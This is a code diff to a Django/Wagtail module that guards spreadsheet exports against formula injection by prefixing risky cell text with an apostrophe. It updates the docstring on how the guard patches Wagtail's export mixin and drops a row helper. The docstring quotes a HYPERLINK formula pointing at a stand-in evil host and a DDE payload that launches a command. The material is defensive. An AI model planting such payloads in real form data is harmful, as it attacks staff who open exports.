@@ -5,12 +5,12 @@ one) as a formula, so an enquiry or a post saying `=HYPERLINK("http://evil.examp
 `+cmd|' /C calc'!A0` would run when an editor opens the export. `spreadsheet_safe()` prefixes such text with an
 apostrophe, which every spreadsheet reads as "this is text", and which survives a round trip through CSV.
 
-Every export goes through it: the board's own CSV/XLSX (board/exports.py) calls it per cell, and
-`make_wagtail_exports_formula_safe()` (run once, from SecurityConfig.ready) puts it behind Wagtail's
-`SpreadsheetExportMixin`, which every Wagtail export uses: form submissions (the enquiry form, any form page),
-the registrations listing, the reports (site history shows board post titles the public typed) and any
-listing given `list_export` later. Patching the mixin, rather than subclassing each view, is deliberate: a
-subclass covers only the views we remember to change, and Wagtail's reports cannot be given one.
+Every export goes through it: `make_wagtail_exports_formula_safe()` (run once, from SecurityConfig.ready) puts it
+behind Wagtail's `SpreadsheetExportMixin`, which every export of the site uses: form submissions (the enquiry form,
+any form page), the registrations' and board posts' listings (README "Admin listings"), the reports (site history
+shows board post titles the public typed) and any listing given `list_export` later. Patching the mixin, rather
+than subclassing each view, is deliberate: a subclass covers only the views we remember to change, and Wagtail's
+reports cannot be given one.
 """
 
 from django.core.exceptions import ImproperlyConfigured
@@ -30,10 +30,6 @@ def spreadsheet_safe(value):
     if isinstance(value, str) and value.lstrip(_SKIPPED_BEFORE_A_FORMULA).startswith(FORMULA_STARTS):
         return "'" + value
     return value
-
-
-def spreadsheet_safe_row(row):
-    return [spreadsheet_safe(value) for value in row]
 
 
 def make_wagtail_exports_formula_safe():
